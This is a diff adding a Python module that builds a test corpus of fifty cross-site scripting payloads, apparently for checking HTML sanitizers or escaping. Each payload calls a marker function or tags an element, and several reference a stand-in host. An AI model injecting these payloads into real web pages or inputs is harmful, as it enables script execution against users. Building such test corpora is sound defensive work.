@@ -1,0 +1,61 @@
+"""Fifty strings that run a script wherever text is taken for markup, script, style or URL.
+
+Each calls `xss(n)` or makes an element with the attribute `data-x`. Kinds: plain tags, attributes that end too early, script blocks
+that end too early, URLs, templates, JSON in HTML, SVG and MathML, encodings, CSS, and what client-side libraries read.
+"""
+
+_FORMS = [
+    "<script data-x>xss({n})</script>",
+    "<img data-x src=x onerror=xss({n})>",
+    "<svg data-x onload=xss({n})>",
+    "\"><script data-x>xss({n})</script>",
+    "'><img data-x src=x onerror=xss({n})>",
+    "\" autofocus data-x onfocus=xss({n}) x=\"",
+    "' data-x onmouseover='xss({n})",
+    "` data-x onmouseover=`xss({n})",
+    "</script><script data-x>xss({n})</script>",
+    "</title><script data-x>xss({n})</script>",
+    "</textarea><img data-x src=x onerror=xss({n})>",
+    "</pre></code><svg data-x/onload=xss({n})>",
+    "</style><script data-x>xss({n})</script>",
+    "--><img data-x src=x onerror=xss({n})>",
+    "]]><img data-x src=x onerror=xss({n})>",
+    "<!--<img data-x src=\"--><img src=x onerror=xss({n})//\">",
+    "javascript:xss({n})",
+    "JaVaScRiPt:xss({n})//",
+    "java\tscript:xss({n})",
+    "data:text/html,<script>parent.xss({n})</script>",
+    "vbscript:xss({n})",
+    "<a data-x href=javascript:xss({n})>go</a>",
+    "<iframe data-x srcdoc=\"<script>parent.xss({n})</script>\"></iframe>",
+    "<object data-x data=javascript:xss({n})></object>",
+    "<embed data-x src=javascript:xss({n})>",
+    "<form data-x><button formaction=javascript:xss({n})>go",
+    "<input data-x autofocus onfocus=xss({n})>",
+    "<details data-x open ontoggle=xss({n})>",
+    "<video data-x><source onerror=xss({n})></video>",
+    "<body data-x onload=xss({n})>",
+    "<base data-x href=//evil.test/>",
+    "<meta data-x http-equiv=refresh content=0;url=javascript:xss({n})>",
+    "<link data-x rel=stylesheet href=//evil.test/x.css>",
+    "<math data-x><mi href=javascript:xss({n})>x</mi></math>",
+    "<svg data-x><a href=javascript:xss({n})><text y=9>x</text></a></svg>",
+    "<svg data-x><animate onbegin=xss({n}) attributeName=x dur=1s>",
+    "<template data-x><img src=x onerror=xss({n})></template>",
+    "<noscript><p title=\"</noscript><img data-x src=x onerror=xss({n})>\">",
+    "<style data-x>@import '//evil.test/x.css';</style>",
+    "<div data-x style=background:url(javascript:xss({n}))>",
+    "&lt;img data-x src=x onerror=xss({n})&gt;",
+    "&#60;script data-x&#62;xss({n})&#60;/script&#62;",
+    "%3Cscript%20data-x%3Exss({n})%3C/script%3E",
+    "\\u003cscript data-x\\u003exss({n})\\u003c/script\\u003e",
+    "{{{{constructor.constructor('xss({n})')()}}}}",
+    "${{xss({n})}}",
+    "';xss({n});//",
+    "\";xss({n});//",
+    "<div data-x hx-get=/ hx-trigger=load hx-on::load=xss({n}) hx-vals='js:{{x:xss({n})}}'>",
+    "<pre data-x data-json data-stream=/x data-chart=x onclick=xss({n}) tabindex=0 autofocus onfocus=xss({n})>{{}}",
+]
+
+CORPUS = [form.format(n=n) for n, form in enumerate(_FORMS)]
+assert len(CORPUS) == 50 and len(set(CORPUS)) == 50
